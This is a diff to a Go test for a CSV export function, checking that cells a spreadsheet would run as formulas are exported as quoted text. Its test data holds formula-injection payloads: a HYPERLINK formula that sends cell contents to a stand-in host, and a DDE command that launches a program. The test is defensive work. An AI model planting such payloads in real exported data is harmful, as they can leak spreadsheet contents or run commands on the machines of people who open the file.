@@ -104,6 +104,38 @@ func TestExportCSV(t *testing.T) {
 	if recs[1][2] != "" || recs[1][3] != "[1,2]" {
 		t.Errorf("NULL and list cells: %q %q", recs[1][2], recs[1][3])
 	}
+	// Cells a spreadsheet would run as formulas are written as text;
+	// numbers, negative ones included, stay numbers.
+	res, err = e.app.RunSQL(`SELECT * FROM (VALUES
+		('=HYPERLINK("http://x/?"&A1)', -12.5, '-12.5'),
+		('@SUM(1+1)', 3.0, '+cmd|'' /C calc''!A0'),
+		('-2+3', -1.0, chr(9) || 'tab'),
+		(chr(13) || 'cr', 0.0, 'plain')) AS t("=bad", amount, note)`)
+	if err != nil {
+		t.Fatal(err)
+	}
+	path, err = e.app.ExportCSV(res.Ref)
+	if err != nil || path == nil {
+		t.Fatalf("export: %v %v", path, err)
+	}
+	raw, err := os.ReadFile(*path)
+	if err != nil {
+		t.Fatal(err)
+	}
+	recs, err = csv.NewReader(strings.NewReader(string(raw))).ReadAll()
+	if err != nil {
+		t.Fatal(err)
+	}
+	want := [][]string{
+		{"'=bad", "amount", "note"},
+		{`'=HYPERLINK("http://x/?"&A1)`, "-12.5", "-12.5"},
+		{"'@SUM(1+1)", "3", `'+cmd|' /C calc'!A0`},
+		{"'-2+3", "-1", "'\ttab"},
+		{"'\rcr", "0", "plain"},
+	}
+	if fmt.Sprint(recs) != fmt.Sprint(want) {
+		t.Errorf("exported\n%q\nwant\n%q", recs, want)
+	}
 	if _, err := e.app.ExportCSV("r_nope"); codeOf(t, err) != app.CodeNotFound {
 		t.Errorf("unknown ref: %v", err)
 	}
